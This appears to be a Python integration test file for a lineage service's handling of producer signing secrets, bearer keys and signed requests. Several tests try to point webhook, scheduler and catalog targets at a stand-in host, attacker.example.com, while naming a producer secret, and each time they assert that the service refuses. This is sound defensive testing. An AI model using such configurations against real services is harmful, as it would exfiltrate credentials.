"""Producer signing secrets through the API handler on moto (issue 24): they live in a namespace of their own,
no rule target or asset source may name one (in any spelling), creating a producer never overwrites a secret
lakehook did not create, and POST /api/v1/lineage takes a producer's secret as a bearer key only from a producer
registered with ``lineageBearer: true`` (any producer may sign)."""

from __future__ import annotations

import json
from typing import Any

from tests.integration.test_api import Api
from tests.support import signed_headers

ORDERS = "paimon://lake/ods_db/orders"
RULE_GROUPS = [{"groupId": "g", "members": [{"assetKey": ORDERS, "condition": {"qualityStatus": "PASSED"}}]}]


def register(api: Api, producer_id: str = "orders-writer", **spec: Any) -> dict[str, Any]:
    answer = api.call("PUT", f"/producers/{producer_id}", {"assetKeyPrefixes": ["paimon://lake/ods_db/"], **spec})
    assert answer.status == 201, answer.body
    return dict(answer.body)


def spellings(secrets_client: Any, name: str) -> list[str]:
    arn = secrets_client.describe_secret(SecretId=name)["ARN"]
    return [name, arn, arn.rsplit("-", 1)[0], f"/{name}", f"//{name}", name.upper(), name.title()]


def test_a_producer_secret_is_in_its_own_namespace(api: Api, secrets_client: Any) -> None:
    made = register(api)
    assert made["secretRef"] == "lakehook-producers/orders-writer"  # not under lakehook/, where target secrets are
    stored = secrets_client.describe_secret(SecretId=made["secretRef"])
    assert {"Key": "lakehook:owner", "Value": "producer/orders-writer"} in stored["Tags"]


def test_no_rule_target_may_name_a_producer_secret_in_any_spelling(api: Api, secrets_client: Any) -> None:
    made = register(api)
    # a producer registered before the namespace existed keeps its secret at lakehook/producers/<id>
    secrets_client.create_secret(Name="lakehook/producers/legacy-writer", SecretString="legacy")
    names = [
        *spellings(secrets_client, made["secretRef"]),
        *spellings(secrets_client, "lakehook/producers/legacy-writer"),
        "producers/legacy-writer",  # relative to the stack's prefix (lakehook/), it is the legacy place
    ]
    targets = [
        ("secretRef", {"type": "webhook", "url": "https://attacker.example.com/x"}),
        ("credentialsRef", {"type": "airflow", "baseUrl": "https://attacker.example.com", "dagId": "d"}),
        (
            "tokenRef",
            {"type": "dolphinscheduler", "baseUrl": "https://attacker.example.com/ds", "projectCode": 1,
             "processDefinitionCode": 2},
        ),
    ]  # fmt: skip
    for field, target in targets:
        for name in names:
            body = {"groups": RULE_GROUPS, "target": {**target, field: name}}
            for query in (None, {"dryRun": "true"}):
                answer = api.call("PUT", "/rules/exfiltrate", body, query=query)
                assert answer.status == 400, (field, name, answer.body)
                assert answer.body["field"] == f"target.{field}"
                # every spelling, an ARN too, is refused by the name it reaches
                assert "producer signing secret" in answer.body["message"], answer.body
    assert api.call("GET", "/rules/exfiltrate").status == 404

    secrets_client.create_secret(Name="lakehook/targets/dwd", SecretString="the target's")  # its own: fine
    body = {"groups": RULE_GROUPS, "target": {**targets[0][1], "secretRef": "lakehook/targets/dwd"}}
    assert api.call("PUT", "/rules/exfiltrate", body).status == 201


def test_no_asset_source_may_name_a_producer_secret_in_any_spelling(api: Api, secrets_client: Any) -> None:
    made = register(api)
    names = spellings(secrets_client, made["secretRef"])
    values = [f"secretsmanager:{n}" for n in names] + [
        f"secretsmanager:{made['secretRef']}#key",
        f"SecretsManager:{made['secretRef']}",
        f"ssm:/aws/reference/secretsmanager/{made['secretRef']}",
        "ssm:/aws/reference/secretsmanager/lakehook/producers/legacy-writer",
    ]
    for value in values:
        body = {
            "assetKey": "iceberg://rest/ods_db/orders",
            "format": "iceberg",
            "source": {
                "catalog": "rest",
                "table": "ods_db.orders",
                "properties": {"uri": "https://attacker.example.com/catalog", "token": value},
            },
        }
        for query in (None, {"dryRun": "true"}):
            answer = api.call("PUT", "/assets", body, query=query)
            assert answer.status == 400, (value, answer.body)
            assert answer.body["field"] == "source.properties" and "'token'" in answer.body["message"]
    assert api.call("GET", "/assets").body["items"] == []


def test_creating_a_producer_never_overwrites_a_secret_it_did_not_create(api: Api, secrets_client: Any) -> None:
    # a target secret written with `lakehook secret put producers/orders-writer` before this release
    secrets_client.create_secret(Name="lakehook/producers/orders-writer", SecretString="a webhook's key")
    register(api, "orders-writer")
    assert secrets_client.get_secret_value(SecretId="lakehook/producers/orders-writer")["SecretString"] == (
        "a webhook's key"
    )

    # a secret in the producer namespace that lakehook did not create: a 409, nothing written
    secrets_client.create_secret(Name="lakehook-producers/payments-writer", SecretString="not lakehook's")
    spec = {"assetKeyPrefixes": ["s3://spool/"], "eventSources": ["etl.payments"]}
    dry = api.call("PUT", "/producers/payments-writer", spec, query={"dryRun": "true"})
    assert dry.status == 409 and "did not create" in dry.body["message"], dry.body  # as the write answers
    answer = api.call("PUT", "/producers/payments-writer", spec)
    assert answer.status == 409 and "did not create" in answer.body["message"], answer.body
    assert "not lakehook's" not in json.dumps(answer.body)
    assert secrets_client.get_secret_value(SecretId="lakehook-producers/payments-writer")["SecretString"] == (
        "not lakehook's"
    )
    assert api.call("GET", "/producers/payments-writer").status == 404
    # the event source it asked for was not kept: another producer may claim it
    other = api.call("PUT", "/producers/other", {"assetKeyPrefixes": ["s3://spool/"], "eventSources": ["etl.payments"]})
    assert other.status == 201, other.body


RUN_EVENT = {
    "eventType": "COMPLETE",
    "eventTime": "2026-12-01T10:00:00.123Z",
    "run": {"runId": "0193a7c4-0000-7000-8000-000000000001"},
    "job": {"namespace": "spark", "name": "etl.orders"},
    "producer": "https://github.com/OpenLineage/OpenLineage/tree/1.54.0/integration/spark",
    "outputs": [
        {"namespace": "paimon://lake", "name": "ods_db.orders", "facets": {"version": {"datasetVersion": "7"}}}
    ],
}


def lineage(api: Api, headers: dict[str, str], raw: str | None = None) -> Any:
    text = raw if raw is not None else json.dumps(RUN_EVENT)
    return api.call("POST", "/api/v1/lineage", raw=text, headers=headers, admin=False)


def test_the_bearer_key_is_taken_only_from_a_producer_that_opted_in(api: Api) -> None:
    plain = register(api, "plain-writer")
    answer = lineage(api, {"Authorization": f"Bearer {plain['apiKey']}", "Content-Type": "application/json"})
    assert answer.status == 401 and "lineageBearer is off" in answer.body["message"], answer.body
    assert api.events(ORDERS) == []

    opted = register(api, "bearer-writer", lineageBearer=True)
    assert opted["lineageBearer"] is True
    answer = lineage(api, {"Authorization": f"Bearer {opted['apiKey']}", "Content-Type": "application/json"})
    assert answer.status == 200 and answer.body["results"][0]["status"] == "ACCEPTED", answer.body

    # turning it off again applies to the next request; the secret is unchanged
    updated = api.call("PUT", "/producers/bearer-writer", {"assetKeyPrefixes": ["paimon://lake/ods_db/"]})
    assert updated.status == 200 and updated.body["lineageBearer"] is False
    answer = lineage(api, {"Authorization": f"Bearer {opted['apiKey']}", "Content-Type": "application/json"})
    assert answer.status == 401 and "lineageBearer is off" in answer.body["message"]


def test_any_producer_may_sign_a_lineage_request(api: Api) -> None:
    plain = register(api, "plain-writer")
    text = json.dumps(RUN_EVENT)
    answer = lineage(api, signed_headers("plain-writer", plain["secret"], text.encode()), raw=text)
    assert answer.status == 200 and answer.body["results"][0]["status"] == "ACCEPTED", answer.body
    (event,) = api.events(ORDERS)
    assert (event["producerId"], event["source"]) == ("plain-writer", "LINEAGE")

    # a signature is checked like a push's: another body, an old timestamp or another secret is a 401
    for headers in (
        signed_headers("plain-writer", plain["secret"], b"{}"),
        signed_headers("plain-writer", plain["secret"], text.encode(), at=1),
        signed_headers("plain-writer", "0" * 64, text.encode()),
    ):
        assert lineage(api, headers, raw=text).status == 401
    # producer headers are a producer's request even alongside the admin token: they must verify
    headers = {**signed_headers("plain-writer", "0" * 64, text.encode()), **api.admin}
    assert lineage(api, headers, raw=text).status == 401
